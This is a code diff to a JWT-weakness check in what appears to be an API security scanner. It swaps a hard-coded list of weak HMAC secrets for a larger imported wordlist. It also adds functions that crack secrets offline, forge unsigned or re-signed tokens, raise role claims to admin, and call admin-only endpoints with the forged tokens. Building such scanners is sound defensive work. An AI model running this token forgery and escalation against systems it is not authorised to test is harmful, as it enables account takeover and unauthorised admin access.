@@ -6,77 +6,15 @@
  * key published at /.well-known/jwks.json.
  */
 import { createHmac, createPublicKey, type JsonWebKey, timingSafeEqual } from 'node:crypto'
-import type { Check, Finding, ScanResponse, Severity } from '../types.js'
+import { adminReason } from '../resources.js'
+import type { Check, Finding, ScanContext, ScanResponse, Severity } from '../types.js'
 import { SkipCheck } from '../types.js'
+import { JWT_WORDLIST } from './jwt-wordlist.js'
 import { type AuthProbe, acceptedLike, authProbe, finding, opOf } from './probe.js'
+import { fillOperation } from './targets.js'
 
-/** Secrets seen in tutorials, defaults and leaked configs; tried offline against the token's HMAC. */
-export const WEAK_SECRETS: readonly string[] = [
-  'secret',
-  'Secret',
-  'SECRET',
-  'secretkey',
-  'secret-key',
-  'secret_key',
-  'mysecret',
-  'my-secret',
-  'my_secret',
-  'supersecret',
-  'super-secret',
-  'topsecret',
-  'jwt',
-  'jwtsecret',
-  'jwt-secret',
-  'jwt_secret',
-  'JWT_SECRET',
-  'jwtkey',
-  'key',
-  'private',
-  'privatekey',
-  'password',
-  'Password',
-  'password1',
-  'passw0rd',
-  'P@ssw0rd',
-  'changeme',
-  'changeit',
-  'default',
-  'admin',
-  'administrator',
-  'root',
-  'test',
-  'testing',
-  'dev',
-  'development',
-  'example',
-  'demo',
-  'qwerty',
-  'letmein',
-  'welcome',
-  '123456',
-  '12345678',
-  '123456789',
-  '1234567890',
-  'abc123',
-  'token',
-  'auth',
-  'api',
-  'apikey',
-  'hello',
-  'shhhhh',
-  'keyboard cat',
-  'your-256-bit-secret',
-  'your-secret-key',
-  'your_jwt_secret',
-  'gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr9C',
-  'secret123',
-  'secretpassword',
-  's3cr3t',
-  'node',
-  'express',
-  'app',
-  'application',
-]
+/** The built-in wordlist (thousands of entries, see jwt-wordlist.ts); tried offline against the token's HMAC. */
+export const WEAK_SECRETS: readonly string[] = JWT_WORDLIST
 
 const HASH: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }
 
@@ -137,8 +75,31 @@ export function crackHmac(jwt: Jwt, words: readonly string[] = WEAK_SECRETS): st
 }
 
 /** Shows a cracked secret without repeating it: first character, length. */
-function hint(secret: string): string {
-  return `"${secret.slice(0, 1)}…" (${secret.length} characters, from the built-in wordlist)`
+function hint(secret: string, builtIn: boolean): string {
+  return `"${secret.slice(0, 1)}…" (${secret.length} characters, from ${builtIn ? 'the built-in wordlist' : 'the --jwt-wordlist file'})`
+}
+
+/** The same claims with every role-like claim raised to admin (or admin claims added). */
+export function escalate(payload: Record<string, unknown>): Record<string, unknown> {
+  const out: Record<string, unknown> = { ...payload }
+  let changed = false
+  for (const [k, v] of Object.entries(payload)) {
+    if (/^(is_?)?admin$|^(is_?)?superuser$|^staff$/i.test(k) && typeof v === 'boolean') {
+      out[k] = true
+      changed = true
+    } else if (/^(role|user_?role|type|group)$/i.test(k) && typeof v === 'string') {
+      out[k] = 'admin'
+      changed = true
+    } else if (/^(roles|groups|authorities|permissions)$/i.test(k) && Array.isArray(v)) {
+      out[k] = [...v, 'admin', 'ROLE_ADMIN']
+      changed = true
+    } else if (/^(scope|scp)$/.test(k) && typeof v === 'string') {
+      out[k] = `${v} admin`
+      changed = true
+    }
+  }
+  if (!changed) Object.assign(out, { admin: true, isAdmin: true, role: 'admin' })
+  return out
 }
 
 export const jwtWeaknesses: Check = {
@@ -169,6 +130,9 @@ export const jwtWeaknesses: Check = {
     const jwt = token ? parseJwt(token) : undefined
     if (!jwt) throw new SkipCheck(`${probe.identity}'s credential is not a JWT`)
     const findings: Finding[] = []
+    /** How a token with other claims can be made, once one technique is proven. */
+    let mint: ((payload: Record<string, unknown>) => string) | undefined
+    let technique = ''
     const trySend = (t: string): Promise<ScanResponse> =>
       ctx.send(probe.identity, {
         method: 'GET',
@@ -204,6 +168,14 @@ export const jwtWeaknesses: Check = {
         'token with one signature character changed: accepted',
         altered,
       )
+      await chain(
+        ctx,
+        probe,
+        (p) => `${b64url(JSON.stringify(jwt.header))}.${b64url(JSON.stringify(p))}.${flip(jwt.signature)}`,
+        'a token with any signature',
+        findings,
+        this,
+      )
       return findings
     }
 
@@ -219,6 +191,9 @@ export const jwtWeaknesses: Check = {
           `unsigned token, header {"alg":"${none}"}: accepted`,
           res,
         )
+        mint ??= (p) =>
+          `${b64url(JSON.stringify({ ...jwt.header, alg: none }))}.${b64url(JSON.stringify(p))}.`
+        technique ||= `an unsigned token (alg "${none}")`
         break
       }
     }
@@ -233,10 +208,14 @@ export const jwtWeaknesses: Check = {
         'token with the signature removed: accepted',
         stripped,
       )
+      mint ??= (p) => `${b64url(JSON.stringify(jwt.header))}.${b64url(JSON.stringify(p))}.`
+      technique ||= 'a token without signature'
     }
 
     // 4. Weak HMAC secret, cracked offline; proven by a re-signed token with a new jti.
-    const secret = crackHmac(jwt)
+    const extra = ctx.options?.jwtWordlist ?? []
+    const secret = crackHmac(jwt, extra.length > 0 ? [...extra, ...WEAK_SECRETS] : WEAK_SECRETS)
+    const builtIn = secret !== undefined && !extra.includes(secret)
     const now = Math.floor(Date.now() / 1000)
     if (secret !== undefined) {
       const forged = hmacSign(alg, secret, jwt.header, { ...jwt.payload, jti: `pcl-${now}`, iat: now })
@@ -245,11 +224,15 @@ export const jwtWeaknesses: Check = {
       report(
         'JWT signed with a weak HMAC secret',
         'critical',
-        `${probe.identity}'s ${alg} token is signed with the secret ${hint(secret)}, found offline in a few ` +
+        `${probe.identity}'s ${alg} token is signed with the secret ${hint(secret, builtIn)}, found offline in a few ` +
           `milliseconds; ${accepted ? `a token re-signed with it was accepted (${res.status}), so anyone can forge tokens for any user` : `a re-signed token answered ${res.status}`}.`,
         `token re-signed with the cracked secret: ${accepted ? 'accepted' : `answered ${res.status}`}`,
         res,
       )
+      if (accepted) {
+        mint ??= (p) => hmacSign(alg, secret, jwt.header, p)
+        technique ||= 'a token signed with the cracked secret'
+      }
       // 5. Expired: only meaningful with a valid signature, which the cracked secret gives.
       const expired = hmacSign(alg, secret, jwt.header, {
         ...jwt.payload,
@@ -279,8 +262,64 @@ export const jwtWeaknesses: Check = {
 
     // 6. Key confusion: an asymmetric token re-signed with HS256 using the published public key.
     if (/^(RS|PS|ES)\d+$/.test(alg)) await keyConfusion(ctx, probe, jwt, trySend, report)
+    // 7. Chaining (opt-in): a proven forgery mints an admin identity for operations of higher roles.
+    if (mint) await chain(ctx, probe, mint, technique, findings, this)
     return findings
   },
+}
+
+/**
+ * With `--chain`: forges `probe.identity`'s claims raised to admin with a proven technique and
+ * calls the operations meant for admins (reads only in safe mode) that the identity's own token
+ * is refused. A 2xx is a finding (API5): the forgery reaches functions of a higher role.
+ */
+async function chain(
+  ctx: ScanContext,
+  probe: AuthProbe,
+  mint: (payload: Record<string, unknown>) => string,
+  technique: string,
+  findings: Finding[],
+  check: Check,
+): Promise<void> {
+  if (!ctx.options?.chain || !ctx.forgeIdentity || !ctx.credentials) return
+  const auth = (await ctx.credentials(probe.identity))?.headers.authorization
+  const jwt = auth ? parseJwt(auth.replace(/^bearer\s+/i, '')) : undefined
+  if (!jwt) return
+  const now = Math.floor(Date.now() / 1000)
+  const forged = mint({ ...escalate(jwt.payload), iat: now, jti: `pcl-chain-${now}` })
+  const name = ctx.forgeIdentity(probe.identity, 'forged-admin', { authorization: `Bearer ${forged}` })
+  let tried = 0
+  for (const op of ctx.operations) {
+    if (tried >= 10) break
+    if (!adminReason(op)) continue
+    if (ctx.safe && op.method !== 'GET') continue
+    const req = fillOperation(ctx, op, probe.identity)
+    if (!req) continue
+    tried++
+    const own = await ctx.send(probe.identity, {
+      method: op.method,
+      path: req.path,
+      query: req.query,
+      relogin: false,
+    })
+    if (own.status !== 401 && own.status !== 403) continue
+    const res = await ctx.send(name, { method: op.method, path: req.path, query: req.query })
+    if (res.status < 200 || res.status > 299) continue
+    findings.push(
+      finding(check, {
+        title: 'Forged token reaches an operation for admins',
+        severity: 'critical',
+        owasp: 'API5:2023',
+        operation: opOf(op),
+        identity: probe.identity,
+        summary: `${probe.identity}'s claims raised to admin in ${technique} (chaining, --chain) got ${res.status} from ${op.method} ${op.path}, where ${probe.identity}'s own token gets ${own.status}: the token forgery gives anyone the functions of a higher role.`,
+        evidence: [
+          { note: `${probe.identity}'s own token: ${own.status}`, exchanges: [own.exchange] },
+          { note: 'forged admin claims: accepted', exchanges: [res.exchange] },
+        ],
+      }),
+    )
+  }
 }
 
 async function keyConfusion(
